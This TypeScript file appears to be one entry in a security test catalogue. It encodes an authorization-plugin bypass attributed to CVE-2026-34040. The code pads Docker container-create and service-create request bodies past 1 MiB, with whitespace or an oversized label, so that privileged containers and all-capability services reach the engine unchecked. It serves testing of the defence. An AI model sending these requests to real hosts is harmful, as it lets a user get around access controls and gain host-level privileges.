import { type Attempt, container, each, service, v } from './book';

export const attempt: Attempt = {
  title: 'hide the body from whoever checks it by making it long',
  source: 'CVE-2026-34040: bodies above 1 MiB reached the engine but not the authorization plugin',
  async try(world) {
    const body = JSON.stringify(container(world, { HostConfig: { Privileged: true } }));
    const service41 = JSON.stringify(service(world, { CapabilityAdd: ['ALL'] }));
    const pad = (size: number): string => ' '.repeat(size);
    return [
      ...(await each([`${pad(1024 * 1024)}${body}`, `${body}${pad(1024 * 1024)}`, body.replace('{',
        `{"Labels":{"a":"${'a'.repeat(1024 * 1024)}"},`), body.replace('{', `{${pad(900 * 1024)}`)], (text) =>
        world.call('POST', `${v}/containers/create`, text))),
      await world.call('POST', `${v}/services/create`, `${pad(4 * 1024 * 1024)}${service41}`),
    ];
  },
};
